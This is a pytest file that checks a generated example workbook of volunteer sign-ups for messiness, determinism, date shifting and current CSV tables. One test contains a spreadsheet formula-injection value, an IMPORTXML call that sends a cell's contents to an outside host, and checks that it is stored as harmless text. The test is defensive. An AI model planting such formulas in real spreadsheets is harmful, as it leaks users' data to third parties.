"""The example workbook: as messy as it says, the same for the same day, and current in CSV."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from recipes.example_rows import COPIED_ID, PEOPLE_HEADERS, Signup, signups
from recipes.example_workbook import (
    BESIDE,
    EXAMPLE_DAY,
    HEADER_ROW,
    build_example,
    example_tables,
)

RECIPES = Path(__file__).parent.parent.parent / "recipes"


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    return load_workbook(build_example(tmp_path_factory.mktemp("built"), EXAMPLE_DAY))


@pytest.fixture(scope="module")
def people(book):
    return book["People"]


def values(book):
    return {
        sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book
    }


def column(sheet, header):
    letter = "ABCDEFGHIJKLMNOPQ"[PEOPLE_HEADERS.index(header)]
    return {cell.value: cell for cell in sheet[letter][HEADER_ROW:] if cell.value is not None}


def test_it_has_thirty_people():
    assert sum(isinstance(row, Signup) for row in signups(EXAMPLE_DAY)) == 30


def test_the_same_day_gives_the_same_cells(tmp_path, book):
    assert values(load_workbook(build_example(tmp_path, EXAMPLE_DAY))) == values(book)


def test_another_day_moves_every_date_along(tmp_path, book):
    later = load_workbook(build_example(tmp_path, EXAMPLE_DAY + timedelta(days=100)))
    for name, before in values(book).items():
        for was, now in zip(before, values(later)[name], strict=True):
            for one, other in zip(was, now, strict=True):
                if isinstance(one, date):
                    assert other - one == timedelta(days=100)


def test_what_looks_like_a_formula_is_text_unless_it_is_one(people):
    names = column(people, "First name")
    hostile = names['=IMPORTXML("https://example.net/?q="&C2,"//a")']
    assert (hostile.data_type, hostile.quotePrefix) == ("s", True)
    assert all(cell.data_type == "f" for cell in column(people, "Days here").values())


def test_it_has_all_that_people_do_to_a_sheet(people):
    assert people["A1"].value == "Clean Rivers: sign-ups this spring"
    assert sorted(map(str, people.merged_cells.ranges)) == ["A1:F1", "H4:H5"]
    assert [number for number, row in people.row_dimensions.items() if row.hidden] == [33, 34]
    assert len(people.data_validations.dataValidation) == 2
    assert len(list(people.conditional_formatting)) == 2
    assert column(people, "Region")["#REF!"].data_type == "e"
    assert [cell.value for cell in people["Q"]].count(COPIED_ID) == 2
    assert isinstance(column(people, "Phone")[6175550102].value, int)
    assert people["J3"].comment is not None
    assert people.max_row == 37


def test_it_has_a_sheet_with_a_chart_that_no_recipe_knows(book):
    assert book.sheetnames == ["People", "Team", "Groups", "Budget"]
    assert len(book["Budget"]._charts) == 1
    assert book["Budget"]["B4"].value == "=SUM(B2:B3)"


def test_the_next_coaching_times_are_ahead_but_for_the_one_that_is_over(book):
    found = [row[4] for row in values(book)["Groups"][1:]]
    moments = [each for each in found if isinstance(each, datetime)]
    after = datetime.combine(EXAMPLE_DAY, datetime.max.time())
    assert [each > after for each in moments].count(False) == 1


@pytest.mark.parametrize("recipe", BESIDE)
def test_the_tables_of_the_workbook_that_stand_beside_a_recipe_are_current(recipe):
    found = {path.name: path.read_text("utf-8") for path in (RECIPES / recipe).glob("*.csv")}
    tables = example_tables(EXAMPLE_DAY)
    assert found == {name: tables[name] for name in BESIDE[recipe]}
